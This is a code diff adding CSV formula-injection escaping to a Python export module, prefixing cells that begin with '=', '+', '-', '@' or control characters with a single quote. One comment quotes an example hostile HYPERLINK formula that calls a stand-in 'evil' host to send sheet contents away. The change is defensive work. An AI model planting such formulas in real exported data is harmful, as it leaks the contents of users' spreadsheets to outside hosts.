@@ -48,17 +48,35 @@ def export_rows(
     )
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula: a note such as
+# =HYPERLINK("http://evil","x") would send the sheet's contents away when clicked, and DDE
+# formulas can start programs. OWASP's advice: write such a cell as text, behind a single quote.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def as_text(cell: Any) -> Any:
+    """A cell a spreadsheet will show rather than run."""
+    if isinstance(cell, str) and cell.startswith(FORMULA_START):
+        return "'" + cell
+    return cell
+
+
 def write_csv(rows: Iterable[dict[str, Any]], out: IO[str]) -> int:
+    """Every export's CSV (the CLI's, the chat's and the dashboard's): spreadsheets open it, so
+    each text cell that would start a formula is written as text (see FORMULA_START)."""
     writer = csv.DictWriter(out, fieldnames=COLUMNS)
     writer.writeheader()
     count = 0
     for row in rows:
-        writer.writerow({**row, "shared": "yes" if row["shared"] else "no"})
+        cells = {**row, "shared": "yes" if row["shared"] else "no"}
+        writer.writerow({name: as_text(cell) for name, cell in cells.items()})
         count += 1
     return count
 
 
 def write_jsonl(rows: Iterable[dict[str, Any]], out: IO[str]) -> int:
+    """JSON lines, every value exactly as recorded: not a spreadsheet format, so nothing in it
+    is a formula, and programs reading it get the real text."""
     count = 0
     for row in rows:
         out.write(json.dumps(row, ensure_ascii=False) + "\n")
